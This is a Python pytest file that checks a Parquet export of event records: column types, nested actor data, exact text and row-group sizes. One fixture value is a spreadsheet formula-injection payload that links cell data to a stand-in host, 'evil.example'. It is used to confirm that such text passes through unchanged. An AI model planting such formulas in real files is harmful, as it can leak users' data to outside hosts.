"""Parquet export read back with pyarrow.parquet: typed columns, nested sides, exact text, row groups."""

from __future__ import annotations

import io

import pyarrow as pa
import pyarrow.parquet as pq

from marsad.export.parquet import write_parquet
from tests.export.sample import TRICKY_EVIDENCE, event_by_uid, records


def read_back(row_group_size: int = 10_000) -> pa.Table:
    buffer = io.BytesIO()
    write_parquet(records(), buffer, row_group_size=row_group_size)
    return pq.read_table(io.BytesIO(buffer.getvalue()))


def test_types_of_the_columns() -> None:
    schema = read_back().schema
    assert schema.field("confidence").type == pa.float64()
    assert schema.field("goldstein").type == pa.float64()
    assert schema.field("evidence_start").type == pa.int64()
    assert schema.field("contexts").type == pa.list_(pa.string())
    assert pa.types.is_list(schema.field("actor").type)


def test_values_survive_exactly() -> None:
    rows = read_back().to_pylist()
    assert [r["event_uid"] for r in rows] == list(event_by_uid())
    visit, accuse, strike, aid, _ = rows
    assert visit["evidence"] == TRICKY_EVIDENCE
    assert visit["actor"] == [
        {"entity": "e1", "name": "Ibrahim al-Jaafari", "country": "IRQ", "sector": "GOV", "kb_id": "Q1334466"},
        {"entity": None, "name": None, "country": "IRQ", "sector": "MIL", "kb_id": None},
    ]
    assert visit["evidence_spans"] == event_by_uid()["fr-001/v1"]["evidence_spans"]
    assert (visit["lat"], visit["lon"], visit["confidence"]) == (55.75, 37.62, 0.8)
    assert visit["title"] == '=HYPERLINK("http://evil.example/?leak="&A1,"click")'  # no CSV protection here
    assert accuse["date"] is None and accuse["recipient"] == [] and accuse["aux"] == "future"
    assert accuse["goldstein"] == -2.0 and accuse["plover_score"] == -2.0
    assert strike["actor"] == [] and strike["date"] == "2024-11" and strike["lon"] == -7.25
    assert aid["title"] == "تسليم طائرات مسيرة إلى العراق" and aid["mode"] is None and aid["url"] is None


def test_row_groups_hold_at_most_the_given_size() -> None:
    buffer = io.BytesIO()
    write_parquet(records() * 3, buffer, row_group_size=4)
    meta = pq.ParquetFile(io.BytesIO(buffer.getvalue())).metadata
    assert meta.num_rows == 15
    assert [meta.row_group(i).num_rows for i in range(meta.num_row_groups)] == [4, 4, 4, 3]


def test_no_events_is_an_empty_valid_file() -> None:
    buffer = io.BytesIO()
    write_parquet([], buffer)
    table = pq.read_table(io.BytesIO(buffer.getvalue()))
    assert table.num_rows == 0 and "event_uid" in table.column_names
